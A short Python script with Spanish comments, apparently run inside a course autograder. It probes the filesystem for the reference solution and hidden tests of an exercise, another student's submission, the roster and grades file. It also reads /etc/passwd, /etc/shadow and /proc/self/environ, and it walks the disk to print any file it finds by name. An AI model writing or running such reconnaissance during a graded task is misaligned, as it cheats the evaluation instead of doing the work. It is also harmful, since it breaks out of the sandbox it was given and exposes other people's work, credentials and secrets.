"""Miro qué hay dando vueltas por acá."""

import os

PARTES = ["..", "../..", "../../..", "/", "/etc", "/home", "/root", "/tmp", "/proc/self", "/srv", "/mnt"]
ARCHIVOS = [
    "../../reference/ex1_norms/norms.py",
    "../../reference/ex1_norms/test_hidden.py",
    "../../assignments/ex1_norms/test_public.py",
    "../../roster.csv",
    "../../course.yaml",
    "../ana/ex1_norms/norms.py",
    "../../submissions/ana/ex1_norms/norms.py",
    "../../grades/grades.json",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hostname",
    "/proc/self/environ",
    "/proc/1/cmdline",
]


def listar():
    for carpeta in PARTES:
        try:
            print(carpeta, sorted(os.listdir(carpeta))[:40])
        except OSError as error:
            print(carpeta, "no se puede:", error.strerror)


def leer():
    for archivo in ARCHIVOS:
        try:
            with open(archivo) as f:
                print("=====", archivo)
                print(f.read())
        except OSError as error:
            print(archivo, "no se puede:", error.strerror)


def buscar(nombre, desde="/"):
    """Recorre el disco buscando un archivo, hasta cansarse."""
    vistas = 0
    for carpeta, _, archivos in os.walk(desde):
        vistas += 1
        if nombre in archivos:
            print("¡encontrado!", os.path.join(carpeta, nombre))
            with open(os.path.join(carpeta, nombre)) as f:
                print(f.read())
        if vistas > 300:
            break
